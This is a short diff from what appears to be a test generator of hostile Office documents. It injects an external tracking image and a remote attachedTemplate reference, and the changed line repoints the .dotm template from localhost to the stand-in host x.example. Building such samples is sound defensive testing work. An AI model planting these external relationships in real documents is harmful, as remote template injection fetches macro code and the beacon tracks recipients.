@@ -185,7 +185,7 @@ def hostile() -> Iterator[Item]:
         lambda xml: xml.replace(
             b"</Relationships>",
             f'<Relationship Id="rIdX" Type="{REL}image" Target="http://127.0.0.1:9/spion.png" '
-            f'TargetMode="External"/><Relationship Id="rIdT" Type="{REL}attachedTemplate" Target="http://127.0.0.1:9/s.dotm" '
+            f'TargetMode="External"/><Relationship Id="rIdT" Type="{REL}attachedTemplate" Target="http://x.example/s.dotm" '
             f'TargetMode="External"/></Relationships>'.encode(),
         ),
     )
